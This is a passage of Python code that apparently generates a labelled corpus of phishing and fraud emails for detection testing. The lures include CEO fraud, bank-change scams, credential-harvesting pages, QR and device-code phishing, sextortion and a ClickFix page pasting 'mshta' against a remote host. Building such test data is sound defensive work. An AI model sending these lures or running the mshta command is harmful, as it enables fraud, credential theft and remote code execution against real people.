"""Attack messages 01-16: German and English."""

import base64

import checks as C
import infra as I
import media
import qr
import tpl
from company import S, A, EG, EG_UK, LIEF, HF, FRAUD
from mime import Text, Att, Multi, outlook_html, gmail_html, roundcube_html, esc
from msg import M
from tpl import alt, ol_att, gm_att, pdf_doc, notice_html

F = 'attack'


def b64mail(a):
    return base64.b64encode(a.encode()).decode().rstrip('=')


# ====================================================================== 01
A01 = """Hallo Herr Krause,

sind Sie heute noch im Büro? Ich brauche kurzfristig Ihre Unterstützung in einer vertraulichen Angelegenheit.

Wie Sie vielleicht mitbekommen haben, führen wir seit einigen Wochen Gespräche über die Übernahme einer Seidenweberei am Comer See. Die Verhandlungen sind heute Nachmittag in die entscheidende Phase gegangen; intern läuft das Vorhaben unter dem Namen „Projekt Seide“. Bis zum Signing und der kartellrechtlichen Anmeldung dürfen außer Ihnen, mir und den begleitenden Anwälten niemand davon wissen – auch Frau Weißmann nicht, die ich nach der Unterzeichnung persönlich informiere. Bitte stimmen Sie das Thema deshalb ausschließlich über diese Adresse mit mir ab, da die Berater der Gegenseite während der Due Diligence Einblick in mein Firmenpostfach haben.

Für die Exklusivitätsvereinbarung müssen wir heute noch eine Anzahlung von 184.600,00 EUR auf das Treuhandkonto der Kanzlei in Mailand leisten. Die Bankverbindung und die Vereinbarung schickt Ihnen Avv. Lorenzo Marchetti in den nächsten 30 Minuten direkt zu. Bitte bereiten Sie die Zahlung als Eilüberweisung vor und geben Sie sie frei, sobald Sie die Daten haben. Die Belege gleichen wir nächste Woche in Ruhe ab.

Können Sie mir kurz bestätigen, dass die Liquidität auf dem Sparkassenkonto reicht, und mir Ihre Handynummer schicken? Ich sitze bis zum Abend in Besprechungen und kann nicht telefonieren, per Mail bin ich aber erreichbar.

Danke für Ihre Diskretion.

Jörg Küster
Geschäftsführer

Von meinem iPhone gesendet
"""

# ====================================================================== 02
A02_TXT = """Guten Morgen Frau Schäfer,

vielen Dank für Ihre Rückmeldung und die Aufstellung der offenen Posten.

Wie Ihrem Einkauf bereits angekündigt, haben wir zum 1. Oktober unseren Zahlungsverkehr umgestellt. Unsere Forderungen werden seitdem über ein neues Geschäftskonto abgewickelt; das bisherige Konto bei der Stadtsparkasse Wuppertal wird Ende Oktober aufgelöst, Zahlungseingänge dorthin können wir dann nicht mehr zuordnen.

Bitte hinterlegen Sie für die beiden fälligen Rechnungen

RE-2026-10412 vom 06.10.2026 über 14.212,48 EUR
RE-2026-10488 vom 09.10.2026 über 9.661,68 EUR

sowie für alle künftigen Zahlungen die folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
IBAN: {iban}
BIC: NTSBDEB1XXX

Die offizielle Mitteilung mit Unterschrift der Geschäftsführung finden Sie im Anhang. Da die RE-2026-10412 bereits überfällig ist, wäre ich Ihnen dankbar, wenn Sie die Zahlung noch diese Woche anweisen und mir das Zahlungsavis kurz per E-Mail schicken.

Ich bin diese Woche bei Kunden in Norditalien unterwegs und telefonisch leider kaum zu erreichen – antworten Sie bitte einfach auf diese E-Mail.

Mit freundlichen Grüßen

Petra Lang
Vertriebsinnendienst / Debitorenmanagement

Lieferant GmbH
Bandwirkerstraße 31 · 42281 Wuppertal
Tel. +49 202 69 81 40
www.lieferant-gmbh.de
Amtsgericht Wuppertal HRB 21574 · Geschäftsführer: Stefan Maier, Dr. Ulrike Brenner

-----Ursprüngliche Nachricht-----
Von: Monika Schäfer <monika.schaefer@example.com>
Gesendet: Freitag, 16. Oktober 2026 14:31
An: Petra Lang <p.lang@lieferant-gmbh.de>
Betreff: Offene Posten Lieferant GmbH / Kd.-Nr. 20418

Hallo Frau Lang,

anbei wie besprochen unsere Aufstellung der offenen Posten zum 16.10.2026. Die RE-2026-10412 ist für den Zahllauf am 23.10. vorgesehen.

Viele Grüße
Monika Schäfer
Kreditorenbuchhaltung
Example Group GmbH
"""


def a02_pdf():
    return pdf_doc('Mitteilung Bankverbindung', 'Petra Lang', [
        ('h1', 'Lieferant GmbH'), ('s', 'Bandwirkerstraße 31 · 42281 Wuppertal · Tel. +49 202 69 81 40'), ('rule', ''), ('gap', ''),
        ('n', 'Example Group GmbH'), ('n', 'Kreditorenbuchhaltung'), ('n', 'Textilstraße 12'), ('n', '41061 Mönchengladbach'), ('gap', ''),
        ('n', 'Wuppertal, 15.10.2026'), ('gap', ''),
        ('h2', 'Mitteilung über die Änderung unserer Bankverbindung'), ('gap', ''),
        ('lines', """Sehr geehrte Damen und Herren,

im Zuge der Neuordnung unseres Zahlungsverkehrs bitten wir Sie, Zahlungen an die Lieferant GmbH
ab sofort ausschließlich auf das folgende Konto zu leisten:"""), ('gap', ''),
        ('b', 'Kontoinhaber: Lieferant GmbH'), ('b', 'IBAN: ' + C.fmt_iban(FRAUD['a02'])), ('b', 'BIC: NTSBDEB1XXX'), ('gap', ''),
        ('lines', """Unsere bisherige Bankverbindung bei der Stadtsparkasse Wuppertal wird zum 31.10.2026 geschlossen.
Bitte passen Sie Ihre Stammdaten entsprechend an. Für Rückfragen steht Ihnen Frau Petra Lang
(p.lang@lieferant-gmbh.com) gerne zur Verfügung.

Mit freundlichen Grüßen"""), ('gap', ''),
        ('n', 'gez. Stefan Maier                                gez. Dr. Ulrike Brenner'),
        ('n', 'Geschäftsführer                                  Geschäftsführerin'), ('gap', ''), ('gap', ''),
        ('s', 'Lieferant GmbH · Amtsgericht Wuppertal HRB 21574 · USt-IdNr. ' + LIEF['ustid']),
    ], creator='Microsoft Word', producer='Microsoft: Print To PDF', date="20261015171204+02'00'")


# ====================================================================== 03
A03_TXT = """Sehr geehrte Damen und Herren,

das ELSTER-Organisationszertifikat (Zertifikatsdatei) Ihres Unternehmens

  Example Group GmbH
  Steuernummer: 121/5712/3456
  Zertifikats-ID: ORG-5712-3456-0A91

läuft am 31.10.2026 ab. Nach Ablauf können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr authentifiziert übermittelt werden. Bei verspäteter Abgabe kann das Finanzamt einen Verspätungszuschlag nach § 152 AO festsetzen.

Die Verlängerung dauert etwa fünf Minuten. Halten Sie dazu bitte Ihre aktuelle Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit:

https://elster-zertifikat-service.de/verlaengerung/?org=121571234560A91

Hinweis: Die Verlängerung muss von der Person durchgeführt werden, auf die das Zertifikat ausgestellt wurde.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Dies ist eine automatisch erstellte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.
"""


def a03_html():
    link = 'https://u48213377.ct.sendgrid.net/ls/click?upn=u001.' + 'Jk7Rq2Lp9vX3mN8cT4bW6yH1sD5fG0aZ-2BqUe7iO3rY9tK4pL6nM1xV8cB2zQ5wE0uA7sF3dG9hJ1kL4mN6bV8cX2zR5tY7uI0oP3aS5dF8gH1jK4lZ7xC0vB3nM6'
    paras = ['Sehr geehrte Damen und Herren,',
             'das <b>ELSTER-Organisationszertifikat</b> Ihres Unternehmens läuft am <b>31.10.2026</b> ab:',
             '<table cellpadding="4" style="font-family:Arial;font-size:14px;background:#f5f7fa;border-left:4px solid #c8102e">'
             '<tr><td>Unternehmen:</td><td><b>Example Group GmbH</b></td></tr><tr><td>Steuernummer:</td><td>121/5712/3456</td></tr>'
             '<tr><td>Zertifikats-ID:</td><td>ORG-5712-3456-0A91</td></tr></table>',
             'Nach Ablauf können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr '
             'authentifiziert übermittelt werden. Bei verspäteter Abgabe kann das Finanzamt einen Verspätungszuschlag nach § 152 AO festsetzen.',
             'Die Verlängerung dauert etwa fünf Minuten. Halten Sie dazu bitte Ihre aktuelle Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.']
    return notice_html('ELSTER', '#c8102e', 'Ihr Organisationszertifikat läuft ab', paras,
                       button=('Zertifikat jetzt verlängern', link),
                       after_button=['Hinweis: Die Verlängerung muss von der Person durchgeführt werden, auf die das Zertifikat ausgestellt wurde.',
                                     'Mit freundlichen Grüßen<br>Ihr ELSTER-Team'],
                       footer='ELSTER – Ihr Online-Finanzamt · Dies ist eine automatisch erstellte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.'
                              '<img src="https://u48213377.ct.sendgrid.net/wf/open?upn=u001.Qx7Lp2" width="1" height="1" alt="">',
                       lang='de', logo='<span style="font-size:24px;letter-spacing:2px">ELSTER</span>',
                       preheader='Verlängerung bis 31.10.2026 erforderlich')


# ====================================================================== 04
A04_TXT = """Microsoft 365 – Sicherheitsbenachrichtigung

Hallo Nina Berger,

im Rahmen der neuen Authentifizierungsrichtlinie Ihrer Organisation (Example Group) muss die Multi-Faktor-Authentifizierung für Ihr Konto nina.berger@example.com bis zum 23.10.2026 neu bestätigt werden. Andernfalls wird der Zugriff auf Outlook, Teams und SharePoint bis zur erneuten Registrierung gesperrt.

So bestätigen Sie Ihre Registrierung:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den QR-Code in dieser Nachricht.
3. Melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Anfrage in der Authenticator-App.

Aus Sicherheitsgründen ist der Code nur 48 Stunden gültig und kann nicht am PC geöffnet werden.

Vielen Dank
Ihr Microsoft 365 Team im Auftrag Ihrer IT-Abteilung
"""


def a04_body():
    url = 'https://sso-m365-auth.com/mfa/?u=' + b64mail(A('berger'))
    png = qr.to_png(url, scale=5)
    cid = 'part1.Qr7mLx2K.9sTz4Bd1@zahnarzt-lindner-viersen.de'
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
            "<body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>\n"
            '<div style="max-width:560px;border:1px solid #e1e1e1;padding:24px;font-family:Segoe UI,Arial,sans-serif">'
            '<div style="font-size:13px;color:#737373"><span style="color:#f25022">&#9632;</span><span style="color:#7fba00">&#9632;</span>'
            '<span style="color:#00a4ef">&#9632;</span><span style="color:#ffb900">&#9632;</span> Microsoft 365</div>'
            '<h2 style="font-weight:600;color:#262626">Multi-Faktor-Authentifizierung erneuern</h2>'
            '<p>Hallo Nina Berger,</p><p>im Rahmen der neuen Authentifizierungsrichtlinie Ihrer Organisation (<b>Example Group</b>) muss die '
            'Multi-Faktor-Authentifizierung für Ihr Konto <b>nina.berger@example.com</b> bis zum <b>23.10.2026</b> neu bestätigt werden. '
            'Andernfalls wird der Zugriff auf Outlook, Teams und SharePoint bis zur erneuten Registrierung gesperrt.</p>'
            '<p>Scannen Sie den folgenden Code mit der Kamera Ihres Smartphones:</p>'
            '<p style="text-align:center"><img src="cid:%s" width="205" height="205" alt="QR-Code"></p>'
            '<p style="font-size:12px;color:#737373">Aus Sicherheitsgründen ist der Code nur 48 Stunden gültig und kann nicht am PC geöffnet werden.</p>'
            '<p>Vielen Dank<br>Ihr Microsoft 365 Team im Auftrag Ihrer IT-Abteilung</p></div>\n</body></html>\n' % cid)
    return Multi('alternative', [
        Text('plain', A04_TXT, 'utf-8', 'quoted-printable', flowed=True, wrap=76, csname='UTF-8'),
        Multi('related', [Text('html', html, 'utf-8', 'quoted-printable', csname='UTF-8'),
                          Att('image/png', png, 'mfa_qr.png', disposition='inline', cid=cid)])])


# ====================================================================== 05
A05_TXT = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unser Zahlungsavis zur heute veranlassten Zahlung. Das Dokument ist aus Datenschutzgründen geschützt und lässt sich nach Bestätigung Ihrer geschäftlichen E-Mail-Adresse öffnen.

Bitte prüfen Sie die Zuordnung der Beträge zu Ihren Rechnungen.

Mit freundlichen Grüßen

Sandra Hanke
Buchhaltung

Elektro Hanke GmbH
Gewerbering 14 · 47906 Kempen
Tel. 02152 91 47-0
"""


def a05_att():
    html = tpl.login_form_html(
        'Zahlungsavis_03112026.pdf – Geschütztes Dokument', 'Anmelden, um das Dokument anzuzeigen',
        'Zahlungsavis_03112026.pdf (148 KB) wurde von buchhaltung@hanke-elektro.de für Sie freigegeben. '
        'Bestätigen Sie Ihr Geschäftskonto, um das Dokument zu öffnen.',
        A('schaefer'), 'https://avis-dokument.de-secure-view.com/o/next.php', 'Anmelden', pw_label='Kennwort', lang='de',
        note='© 2026 Microsoft · Datenschutz & Cookies · Nutzungsbedingungen', hidden={'ref': 'hanke-avis-0311'})
    return Att('text/html', html.encode('utf-8'), 'Zahlungsavis_03112026.htm', size=True,
               dispdate='Tue, 03 Nov 2026 10:19:40 GMT', extra=['Content-Description: Zahlungsavis_03112026.htm'], cs_param='utf-8')


# ====================================================================== 06
A06_TXT = """Guten Morgen Frau Lorenz,

ich habe zum 1. November mein Girokonto gewechselt und möchte Sie bitten, mein Gehalt ab der Novemberabrechnung auf das neue Konto zu überweisen:

Kontoinhaberin: Nina Berger
IBAN: {iban}
BIC: REVOLT21

Das alte Konto bei der Sparkasse wird Ende des Monats geschlossen, daher wäre es wichtig, dass die Änderung noch in diesem Abrechnungslauf berücksichtigt wird.

Ich schreibe Ihnen von meiner privaten Adresse, weil ich diese Woche im Außendienst bei Kunden in Bayern bin und mein VPN-Zugang gerade nicht funktioniert (die IT weiß Bescheid). Könnten Sie mir kurz bestätigen, wenn die Änderung eingetragen ist?

Vielen Dank und viele Grüße
Nina Berger
"""

# ====================================================================== 07
A07_TXT = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Unterlagen zur Eintragung Ihres Unternehmens in das Deutsche Handels- und Gewerberegister (DHGR) für den Registerbezirk Mönchengladbach.

Firma:            Example Group GmbH
Registernummer:   HRB 14872
Vorgangsnummer:   2026-DE-88417
Betrag:           798,00 € (netto, jährlich)

Um eine ordnungsgemäße Veröffentlichung Ihrer Firmendaten sicherzustellen, bitten wir um Überweisung innerhalb von 14 Tagen unter Angabe der Vorgangsnummer. Die Zahlungsinformationen entnehmen Sie bitte dem beigefügten Formular.

Mit freundlichen Grüßen

DHGR Datenservice
Abteilung Registereintragungen
"""


def a07_pdf():
    return pdf_doc('Eintragungsformular 2026-DE-88417', 'DHGR', [
        ('h1', 'DHGR – Deutsches Handels- und Gewerberegister'), ('s', 'Datenservice · Registereintragungen · www.dhgr-register.de'), ('rule', ''), ('gap', ''),
        ('n', 'Example Group GmbH'), ('n', 'Textilstraße 12'), ('n', '41061 Mönchengladbach'), ('gap', ''),
        ('h2', 'Eintragungsformular / Rechnung Nr. 2026-DE-88417'), ('gap', ''),
        ('monolines', """Registerbezirk         Mönchengladbach
Registernummer         HRB 14872
Eintragungszeitraum    3 Jahre
Leistung               Eintragung Firmendaten, Branche, Kontaktdaten
Jahresbetrag netto     798,00 EUR
zzgl. USt. 19 %        151,62 EUR
Zahlbetrag             949,62 EUR"""), ('gap', ''),
        ('b', 'Bitte überweisen Sie den Zahlbetrag innerhalb von 14 Tagen:'),
        ('monolines', """Empfänger      DHGR Datenservice s.r.o.
IBAN           %s
BIC            TATRSKBX
Verwendungszweck 2026-DE-88417""" % C.fmt_iban(FRAUD['a07'])), ('gap', ''), ('gap', ''),
        ('s', 'Hinweis: Dieses Schreiben ist ein Angebot zur Eintragung in das private Online-Verzeichnis www.dhgr-register.de. Es besteht keine'),
        ('s', 'Verbindung zum amtlichen Handelsregister, zum Unternehmensregister oder zu einem Registergericht. Mit der Zahlung nehmen Sie das'),
        ('s', 'Angebot an. Der Vertrag hat eine Laufzeit von 3 Jahren und verlängert sich um jeweils ein weiteres Jahr, wenn er nicht 3 Monate vor'),
        ('s', 'Ablauf schriftlich gekündigt wird. Es gelten unsere AGB. Gerichtsstand ist Bratislava. DHGR Datenservice s.r.o., Bratislava.'),
    ], creator='wkhtmltopdf 0.12.6', producer='Qt 5.15.2', date="20261105080011+01'00'")


# ====================================================================== 08
A08_TXT = """Hallo Herr Dietrich,

unser Monitoring zeigt, dass Ihr Postfach seit heute Morgen mit mehreren Tausend Newsletter-Anmeldungen und Spam-Nachrichten überflutet wird (sogenanntes E-Mail-Bombing). Das ist häufig die Vorstufe eines gezielten Angriffs. Bitte löschen Sie die Nachrichten nicht selbst und klicken Sie nichts an.

Ein Kollege aus dem Security-Team meldet sich in den nächsten 30 Minuten per Microsoft Teams bei Ihnen (Anzeigename „IT-Servicedesk Example Group“). Für die Bereinigung schaltet er sich kurz per Microsoft Schnellhilfe (Quick Assist) auf Ihren Rechner:

1. Nehmen Sie den Teams-Anruf an.
2. Drücken Sie Strg + Windows-Taste + Q, um die Schnellhilfe zu öffnen.
3. Geben Sie den Sicherheitscode ein, den Ihnen der Kollege nennt, und bestätigen Sie „Vollständige Kontrolle übernehmen“.

Die Bereinigung dauert etwa zehn Minuten. Bitte halten Sie sich bereit, damit Ihr Postfach nicht vorübergehend gesperrt werden muss.

Mit freundlichen Grüßen

IT-Servicedesk
Example Group GmbH
"""

# ====================================================================== 09
A09_TXT = """Claire Whitfield sent you a document to review and sign.

REVIEW DOCUMENT
https://harrowfinch-agreements.web.app/?e={e}

Claire Whitfield
c.whitfield@harrowfinch.co.uk

Hi Oliver,
Please review and complete the SS27 supplier agreement and the updated price schedule before our buying meeting on Friday.
Kind regards, Claire

Do Not Share This Email
This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit DocuSign.com, click 'Access Documents', and enter the security code:
3B7F5A0C9E2D4F61A8C3B5D7E9F1A2C4

About DocuSign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.
"""


def a09_html(e):
    link = 'https://harrowfinch-agreements.web.app/?e=' + e
    return ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>DocuSign</title></head>'
            '<body style="padding:2px;margin:0;background:#eaeaea">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0" border="0" style="max-width:640px;background:#ffffff;font-family:Helvetica,Arial,sans-serif" align="center">'
            '<tr><td style="padding:10px 24px"><span style="font-size:22px;font-weight:bold;color:#000">Docu</span><span style="font-size:22px;font-weight:bold;color:#ffcc22">Sign</span></td></tr>'
            '<tr><td style="padding:0 24px 30px 24px"><table width="100%%" cellpadding="0" cellspacing="0" style="background:#1e4ca1;color:#ffffff">'
            '<tr><td align="center" style="padding:28px 24px;font-size:16px">Claire Whitfield sent you a document to review and sign.</td></tr>'
            '<tr><td align="center" style="padding-bottom:24px"><a href="%s" style="background:#ffc423;color:#333333;font-size:15px;font-weight:bold;'
            'padding:10px 22px;text-decoration:none;border-radius:2px;display:inline-block">REVIEW DOCUMENT</a></td></tr></table></td></tr>'
            '<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333"><b>Claire Whitfield</b><br><a href="mailto:c.whitfield@harrowfinch.co.uk" style="color:#2463d1">'
            'c.whitfield@harrowfinch.co.uk</a><br><br>Hi Oliver,<br>Please review and complete the SS27 supplier agreement and the updated price schedule before our buying '
            'meeting on Friday.<br>Kind regards, Claire</td></tr>'
            '<tr><td style="padding:24px;background:#eaeaea;font-size:13px;color:#666"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. '
            'Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit DocuSign.com, click \'Access Documents\', '
            'and enter the security code:<br>3B7F5A0C9E2D4F61A8C3B5D7E9F1A2C4<br><br><b>About DocuSign</b><br>Sign documents electronically in just minutes. '
            'It\'s safe, secure, and legally binding.</td></tr></table></body></html>\n' % link)


# ====================================================================== 10
A10_TXT = """Hello,

Please find attached the remittance advice for the BACS payment made today to your account.

Payment reference: RA-771902
Value date: 14/10/2026
Amount: GBP 18,460.00

The remittance is a secure document - open the attachment in your browser and sign in with your company email to view the invoice breakdown.

Kind regards,

Accounts Department
"""

# ====================================================================== 11
A11_NOTE = ("Your Norton 360 Total Security subscription (5 devices, 3 years) has been renewed automatically and GBP 389.99 will be "
            "charged to your PayPal account within 24 hours. If you did not authorise this renewal, call our billing support on "
            "+44 20 3807 4412 (Mon-Sun, 24h) to cancel and receive a full refund. Order ID: NRT-77418-2026.")
A11_TXT = """Norton LifeLock Billing sent you an invoice for £389.99 GBP

Due on receipt

Invoice details
Amount requested: £389.99 GBP
Invoice number: 0917-2026
Note from seller:
{note}

View and Pay Invoice
https://www.paypal.com/invoice/p/#INV2-8KQ4-3ZLD-7WXR-A9TF

Don't recognise this invoice?
Don't pay it. Report it to PayPal.

Help & Contact | Security | Apps

PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.

Copyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., Société en Commandite par Actions. Registered office: 22-24 Boulevard Royal, L-2449, Luxembourg, RCS Luxembourg B 118 349.
"""


def a11_html():
    return ('<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width">'
            '<title>PayPal</title></head><body style="margin:0;background:#f7f9fa;font-family:Helvetica Neue,Helvetica,Arial,sans-serif">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:20px">'
            '<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff">'
            '<tr><td style="padding:24px 30px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" height="36" alt="PayPal"></td></tr>'
            '<tr><td style="padding:0 30px;font-size:24px;color:#000">Norton LifeLock Billing sent you an invoice for £389.99 GBP</td></tr>'
            '<tr><td style="padding:8px 30px 20px 30px;font-size:14px;color:#687173">Due on receipt</td></tr>'
            '<tr><td style="padding:0 30px 16px 30px;font-size:14px;color:#2c2e2f"><b>Note from seller</b><br>%s</td></tr>'
            '<tr><td style="padding:0 30px 16px 30px;font-size:14px;color:#2c2e2f">Invoice number: 0917-2026<br>Amount requested: £389.99 GBP</td></tr>'
            '<tr><td align="center" style="padding:10px 30px 30px 30px"><a href="https://www.paypal.com/invoice/p/#INV2-8KQ4-3ZLD-7WXR-A9TF" '
            'style="background:#003087;color:#ffffff;font-size:16px;font-weight:bold;padding:12px 36px;border-radius:25px;text-decoration:none">View and Pay Invoice</a></td></tr>'
            '<tr><td style="padding:0 30px 24px 30px;font-size:13px;color:#687173"><b>Don\'t recognise this invoice?</b><br>Don\'t pay it. '
            '<a href="https://www.paypal.com/invoice/p/#INV2-8KQ4-3ZLD-7WXR-A9TF/report" style="color:#0070e0">Report it to PayPal.</a></td></tr>'
            '<tr><td style="padding:20px 30px;background:#f7f9fa;font-size:11px;color:#687173">Help &amp; Contact | Security | Apps<br><br>'
            'PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.<br><br>'
            'Copyright © 1999-2026 PayPal. All rights reserved. PayPal (Europe) S.à r.l. et Cie, S.C.A., Société en Commandite par Actions. '
            'Registered office: 22-24 Boulevard Royal, L-2449, Luxembourg, RCS Luxembourg B 118 349.</td></tr>'
            '</table></td></tr></table></body></html>\n' % esc(A11_NOTE))


# ====================================================================== 12
A12_TXT = """Dear Director,

Our records show that the confirmation statement for EXAMPLE GROUP UK LTD (company number 11457823), made up to 12 October 2026, has not been delivered. Under section 853A of the Companies Act 2006 the statement must be delivered within 14 days after the end of the review period.

Since 18 November 2025, directors and people with significant control must also have verified their identity with Companies House. Our records show that identity verification for one or more officers of this company is incomplete, so the statement cannot be accepted.

To avoid the company being struck off the register and its officers being prosecuted, please sign in with your GOV.UK One Login and complete the filing within 5 working days:

{link}

You will need the company authentication code and the email address and password you use for GOV.UK One Login.

Yours faithfully

Registrar of Companies for England and Wales
Companies House
"""


def a12_html(link):
    paras = ['Dear Director,',
             'Our records show that the confirmation statement for <b>EXAMPLE GROUP UK LTD</b> (company number 11457823), made up to 12 October 2026, '
             'has not been delivered. Under section 853A of the Companies Act 2006 the statement must be delivered within 14 days after the end of the review period.',
             'Since 18 November 2025, directors and people with significant control must also have verified their identity with Companies House. '
             'Our records show that identity verification for one or more officers of this company is incomplete, so the statement cannot be accepted.',
             'To avoid the company being struck off the register and its officers being prosecuted, please sign in with your GOV.UK One Login and '
             'complete the filing within <b>5 working days</b>.']
    return notice_html('GOV.UK', '#0b0c0c', 'Confirmation statement overdue', paras,
                       button=('Sign in and file now', link),
                       after_button=['You will need the company authentication code and the email address and password you use for GOV.UK One Login.',
                                     'Yours faithfully<br><br>Registrar of Companies for England and Wales<br>Companies House'],
                       footer='Companies House, Crown Way, Cardiff, CF14 3UZ. <a href="https://r.companieshouse-filing.uk/unsub?x=Hk2L">Unsubscribe</a>',
                       lang='en-GB', logo='<span style="font-size:26px">&#9813; GOV.UK</span>')


# ====================================================================== 13
A13_TXT = """Hi Oliver,

I'm writing from my personal account as our work mail is down this afternoon.

We've had a number of complaints about the merino crew-necks from the delivery on 3 November (PO HF-55198) - pilling after one wash and several pieces with pulled threads on the left sleeve. Our QA team photographed the affected units; I've put the photos and the QA report into the attached viewer file as the originals were too large to email.

Could you have a look today and let me know how you'd like to handle the returns? We need to decide before the weekend whether to pull the line from the floor.

Thanks,
Rachel

Rachel Hughes
Senior Buyer - Knitwear & Outerwear
Harrow & Finch Ltd
"""


def a13_att():
    cmd = 'mshta https://qa-photoview.net/v/55198   # I am not a robot - reCAPTCHA Verification ID: 4417'
    html = ('<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>QA_Photos_PO_HF-55198 - OneDrive</title>'
            '<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}.top{background:#0078d4;color:#fff;padding:12px 20px;font-size:16px}'
            '.card{max-width:520px;margin:60px auto;background:#fff;padding:28px 32px;box-shadow:0 2px 8px rgba(0,0,0,.15)}'
            'h2{font-weight:600;margin-top:0}ol li{margin:8px 0}code{display:block;background:#f4f4f4;border:1px solid #ddd;padding:10px;font-size:13px;word-break:break-all}'
            '.blur{height:120px;background:repeating-linear-gradient(45deg,#c8ccd2,#c8ccd2 10px,#d6d9de 10px,#d6d9de 20px);filter:blur(3px);margin-bottom:18px}</style></head>'
            '<body><div class="top">OneDrive &nbsp;|&nbsp; QA_Photos_PO_HF-55198 (14 items)</div><div class="card"><div class="blur"></div>'
            '<h2>Verify you are human</h2><p>The secure photo viewer needs a one-time verification before the files can be displayed.</p>'
            '<ol><li>Press <b>Windows + R</b></li><li>Paste the verification line below with <b>Ctrl + V</b></li><li>Press <b>Enter</b> and return to this page</li></ol>'
            '<code>%s</code><p style="font-size:12px;color:#666">Cloudflare Ray ID: 8f2a1c7d9e3b4a60 &middot; Performance &amp; security by Cloudflare</p>'
            '</div></body></html>\n' % esc(cmd))
    return Att('text/html', html.encode('utf-8'), 'QA_Photos_PO_HF-55198.html', size=True,
               dispdate='Tue, 10 Nov 2026 14:17:02 GMT', extra=['Content-Description: QA_Photos_PO_HF-55198.html'], cs_param='utf-8')


# ====================================================================== 14
A14_TXT = """Hi Frank,

Following our call last month, I've uploaded the SS27 sample line sheet, the yarn cards and the revised FOB price list to our secure Microsoft Teams workspace for Example Group.

Our IT has set the workspace to device verification. To open it:

1. Go to https://microsoft.com/devicelogin
2. Enter the access code: GH7PK2QXL
3. Sign in with your Example Group Microsoft 365 account when prompted.

The code is only valid for 15 minutes - if it expires, just reply and I'll send you a new one.

Best wishes,
Megan

Megan Price
Sales Director
Cotswold Knitwear Ltd
Stroud, Gloucestershire
"""

# ====================================================================== 15
A15_TXT = """Hello!

I have to share bad news with you.
Some months ago I gained access to the devices you use for browsing the internet. After that I started tracking your online activity.

Here is how it happened: I bought access to email accounts from hackers (nowadays it is quite simple to buy it online). I easily logged in to your email account ({addr}) and installed a trojan on the operating system of all devices you use to access your email. The trojan gives me full control over your devices and is updated by signature every few hours, so your antivirus cannot detect it.

I have downloaded all your data, contacts, and your browsing history. I also recorded video of you through your camera while you were visiting adult websites. I can send these videos with one click to all your contacts, colleagues and business partners at Example Group.

I am sure you do not want this to happen. This is what I suggest: transfer 1350 USD in Bitcoin (BTC) to my wallet, and once the transfer is received I will delete all recordings and remove the trojan from your devices for good.

My Bitcoin wallet (BTC): {btc}

You have 48 hours from the moment you opened this email. I receive a notification when you read it, and the timer starts immediately.

Do not reply to this email - I sent it from your own account to show you that I have access. Do not go to the police; I will notice and publish everything at once.

Good luck.
"""

# ====================================================================== 16
A16_TXT = """Oliver,

Are you in the office this morning? I'm tied up in the shareholders' meeting until late and can only reply by email.

I need you to take care of something for me discreetly. We want to thank a few of our key UK retail buyers before the Christmas order window closes, and I'd like it to be a personal gesture from me. Please purchase 8 Amazon.co.uk gift cards at £250 each (£2,000 in total) - physical cards from Tesco or WHSmith are fine. Once you have them, scratch off the back, take a clear photo of each code and send them to me here so I can write the personal notes tonight.

Keep the receipts and claim it through expenses, I'll approve it. Please don't mention it to anyone in the team yet - it's meant to be a surprise.

Let me know when you're on it.

Jörg

Sent from my iPhone
"""


def messages():
    L = []
    # 01 ------------------------------------------------------------ CEO fraud via GMX
    L.append(M(F, 1, 'de', 'ceo-fraud-projekt-seide', '2026-10-15 16:42:07', 'DE',
               ('Jörg Küster', 'joerg.kuester.gf@gmx.net'), [S('krause')], 'Vertraulich – Projekt Seide',
               I.gmx('91.64.183.27'), Text('plain', A01, 'utf-8', 'quoted-printable', csname='UTF-8'),
               'CEO fraud: "Jörg Küster" on a GMX free-mail address asks treasury to prepare an urgent EUR 184,600 '
               '"escrow" transfer for a secret acquisition, announces a fake Milan lawyer.',
               'Free-mail impersonation of the CEO (staff display name, non-company address); secrecy and instruction to '
               'bypass the CFO; urgency, no call possible; asks for liquidity confirmation and mobile number - classic BEC script.'))
    # 02 ------------------------------------------------------------ supplier bank change from look-alike
    txt = A02_TXT.format(iban=C.fmt_iban(FRAUD['a02']))
    L.append(M(F, 2, 'de', 'lieferant-lookalike-bankwechsel', '2026-10-19 10:05:31', 'DE',
